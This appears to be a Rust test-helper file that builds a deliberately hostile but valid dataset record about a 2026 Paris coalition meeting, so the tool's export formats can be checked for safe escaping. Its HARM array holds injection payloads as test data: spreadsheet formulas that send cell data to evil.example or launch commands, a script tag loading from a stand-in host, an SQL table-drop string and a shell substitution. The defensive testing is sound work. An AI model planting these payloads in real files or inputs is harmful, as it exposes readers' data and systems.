//! What several tests need: the command, and a valid record whose texts mean harm.

#![allow(clippy::unwrap_used, clippy::too_many_lines, dead_code)]

use std::fs;
use std::path::{Path, PathBuf};

use assert_cmd::Command;
use serde_json::{Value, json};
use tempfile::TempDir;

/// Texts that pass the rules and that some format would run, break at, or misread.
pub(crate) const HARM: [&str; 11] = [
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "\"><script src=//evil.example",
    "'; DROP TABLE meetings; --",
    "a,b;c\"d\"|e\\f\nsecond line, {\"json\": [1]}",
    "BEGIN:VEVENT \\, \\; ; , : \n END:VCALENDAR",
    "😀 𝒞oalition e\u{301}, ‘quotes’ « guillemets\u{a0}» 中文 ＝fullwidth",
    "＝1+1 `tick` $(command) %s {{template}} #{x} [link](javascript:alert) NULL",
];

/// The root of the workspace.
pub(crate) fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

pub(crate) fn willing(arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_willing"));
    command.args(arguments);
    command
}

/// Exports a record into a new folder, and returns it.
pub(crate) fn exported(data: &Path, formats: &[&str]) -> TempDir {
    let folder = TempDir::new().unwrap();
    let mut command = willing(&["export", "--today", "2026-11-22"]);
    command.args(formats).arg("--data").arg(data);
    command.arg("--out").arg(folder.path().join("dist"));
    command.assert().code(0);
    folder
}

/// A valid record that fills every field of every type, with texts of [`HARM`] wherever a text may stand.
///
/// It is the small record of the curator's tests with some files replaced. The long text has more characters than a spreadsheet's cell.
pub(crate) fn hostile() -> TempDir {
    let folder = TempDir::new().unwrap();
    copy(&root().join("crates/curator/tests/base"), folder.path());
    let mut write = Writer {
        folder: folder.path(),
        next: 0,
    };
    write.all();
    folder
}

/// A text longer than any cell of a spreadsheet.
pub(crate) fn long_text() -> String {
    format!("=LONG {}end", "very long 😀 text ".repeat(3000))
}

pub(crate) fn copy(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    for entry in fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.path().is_dir() {
            copy(&entry.path(), &target);
        } else {
            fs::copy(entry.path(), target).unwrap();
        }
    }
}

struct Writer<'f> {
    folder: &'f Path,
    next: usize,
}

impl Writer<'_> {
    /// A harmful text unlike any before.
    fn harm(&mut self) -> String {
        self.next += 1;
        format!("{} {}", HARM[self.next % HARM.len()], self.next)
    }

    fn text(&mut self) -> Value {
        json!({ "en": self.harm(), "fr": self.harm() })
    }

    fn name(&mut self) -> Value {
        json!({ "en": self.harm(), "fr": self.harm(), "uk": self.harm() })
    }

    fn cite(&mut self) -> Value {
        json!([{ "source": "elysee-2026-01-06", "at": self.harm() }, "hostile-2026-01-06"])
    }

    /// JSON is YAML.
    fn file(&self, path: &str, content: &Value) {
        fs::write(self.folder.join(path), content.to_string() + "\n").unwrap();
    }

    fn all(&mut self) {
        let dataset = json!({
            "title": self.text(), "licence": "CC-BY-4.0", "as_of": "2026-03-18", "scope": self.text(),
            "gaps": [self.text(), self.text()],
        });
        self.file("dataset.yaml", &dataset);
        let source = json!({
            "url": "https://hostile.example/a'b\"c?q=%22,;(x)|y", "title": self.harm(), "publisher": self.harm(),
            "kind": "news", "lang": "en", "published": "2026-01-06", "accessed": "2026-11-22",
            "archived": "https://archive.example/=1+1", "author": self.harm(), "note": self.text(),
            "formerly": ["hostile-before"],
        });
        self.file("sources/hostile-2026-01-06.yaml", &source);
        let by_name = json!({ "name": self.name() });
        let member = json!({
            "kind": "state", "name": self.name(), "iso": { "alpha2": "FR", "alpha3": "FRA" }, "wikidata": "Q142",
            "standing": [
                { "kind": "lead", "date": "2026-01", "by": by_name, "note": self.text(), "cite": self.cite() },
                { "kind": "member", "date": "2026", "by": { "member": "ukraine" }, "cite": self.cite() },
            ],
            "pledges": [{
                "domains": ["land", "air"], "stance": "offered", "summary": self.text(), "date": "2026-01-06",
                "by": { "person": "emmanuel-macron" }, "cite": self.cite(),
            }],
        });
        self.file("members/france.yaml", &member);
        let person = json!({
            "name": self.name(), "wikidata": "Q1", "offices": [{
                "of": "united-states", "title": self.name(), "from": "2025", "to": "2026-02-28", "cite": self.cite(),
            }],
        });
        self.file("people/steve-witkoff.yaml", &person);
        let seat = |member: &str, person: &str, cite: Value| json!({ "member": member, "person": person, "cite": cite });
        let meeting = json!({
            "kind": "coalition", "title": self.name(), "date": "2026-01-06", "end": "2026-01-07", "status": "held",
            "format": "in-person", "level": "leaders",
            "place": { "city": self.name(), "country": "FR", "venue": self.name() },
            "hosts": [seat("france", "emmanuel-macron", self.cite())],
            "chairs": [seat("united-kingdom", "keir-starmer", self.cite())],
            "participants": [
                { "member": "france", "person": "emmanuel-macron", "office": self.name(), "mode": "in-person",
                  "basis": "reported", "note": self.text(), "cite": self.cite() },
                { "member": "united-kingdom", "person": "keir-starmer", "basis": "reported", "cite": self.cite() },
                { "member": "ukraine", "person": "volodymyr-zelenskyy", "basis": "reported", "cite": ["president-ua-2026-01-06"] },
            ],
            "attendance": "partial",
            "absent": [{ "who": { "person": "steve-witkoff" }, "why": self.text(), "cite": ["european-pravda-2026-01-06"] }],
            "counts": [{ "value": 35, "precision": "exact", "of": "countries", "by": { "name": self.name() },
                         "note": self.text(), "cite": ["european-pravda-2026-01-06"] }],
            "topics": [{ "text": self.text(), "cite": ["boursorama-2025-12-30"] }],
            "outcomes": [{ "text": self.text(), "cite": ["le-hautpanel-2026-01-15"] }],
            "statements": [{ "by": { "name": self.name() }, "text": self.text(), "cite": self.cite() }],
            "summary": { "en": long_text(), "fr": self.harm() },
            "follows": "2026-01-05-chiefs-of-defence",
            "cite": self.cite(),
        });
        self.file("meetings/2026-01-06-paris.yaml", &meeting);
        let declaration = json!({
            "title": self.name(), "kind": "declaration-of-intent", "date": "2026-01-06", "meeting": "2026-01-06-paris",
            "issued_by": [seat("france", "emmanuel-macron", json!(["president-ua-2026-01-06"]))],
            "signatories": [
                { "member": "france", "person": "emmanuel-macron", "elsewhere": self.text(), "cite": ["president-ua-2026-01-06"] },
                { "member": "ukraine", "cite": ["president-ua-2026-01-06"] },
            ],
            "binding": { "nature": "political", "note": self.text(), "cite": self.cite() },
            "texts": [{ "lang": "en", "source": "president-ua-2026-01-06" }],
            "summary": self.text(), "cite": ["president-ua-2026-01-06"],
        });
        self.file(
            "declarations/2026-01-06-declaration-of-intent.yaml",
            &declaration,
        );
        let plan = json!({
            "title": self.name(), "kind": "security-guarantees", "date": "2026-01-06", "stage": "proposed",
            "proposed_by": [{ "by": { "name": self.name() }, "cite": self.cite() }],
            "declaration": "2026-01-06-declaration-of-intent",
            "points": [{
                "number": 1, "title": self.text(), "summary": self.text(), "theme": "monitoring",
                "continues": [{ "plan": "2025-12-30-guarantees", "point": 1 }], "cite": self.cite(),
            }],
            "summary": self.text(), "cite": self.cite(), "formerly": ["five-points"],
        });
        self.file("plans/2026-01-06-five-points.yaml", &plan);
        let roster = json!({
            "title": self.name(), "of": "participants", "as_of": "2026-01-06", "by": { "name": self.name() },
            "stated_count": { "value": 35, "precision": "exact" }, "members": ["france", "united-kingdom", "ukraine"],
            "complete": false, "note": self.text(), "cite": ["european-pravda-2026-01-06"],
        });
        self.file("rosters/2026-01-06-paris.yaml", &roster);
        let mut answer = |id: &str, value: Value, date: &str| {
            json!({ "id": id, "value": value, "unit": self.text(), "note": self.text(), "by": { "name": self.name() },
                    "date": date, "cite": ["european-pravda-2026-01-06", "boursorama-2025-12-30"] })
        };
        let answers = [
            answer(
                "number",
                json!({ "number": 35, "precision": "exact" }),
                "2026-01-06",
            ),
            answer(
                "share",
                json!({ "share": 19, "precision": "about" }),
                "2026-01",
            ),
            answer("date", json!({ "date": "2026-01" }), "2026"),
            answer(
                "record",
                json!({ "record": "members/france" }),
                "2026-01-06",
            ),
            answer(
                "text",
                json!({ "text": { "en": "=1+1", "fr": "=2+2" } }),
                "2026-01-07",
            ),
        ];
        let claim = |verdict: Value, question: Value| json!({ "question": question, "about": "meetings/2026-01-06-paris", "answers": answers, "verdict": verdict });
        let preferred = json!({ "prefer": "number", "why": { "en": "=why", "fr": "=pourquoi" } });
        let compatible = json!({ "compatible": { "en": "@both", "fr": "@deux" } });
        for (file, verdict) in [
            ("countries-in-paris", preferred),
            ("hostile-compatible", compatible),
            ("hostile-open", json!("open")),
        ] {
            let question = json!({ "en": format!("=question of {file}"), "fr": format!("=question sur {file}") });
            self.file(&format!("claims/{file}.yaml"), &claim(verdict, question));
        }
    }
}
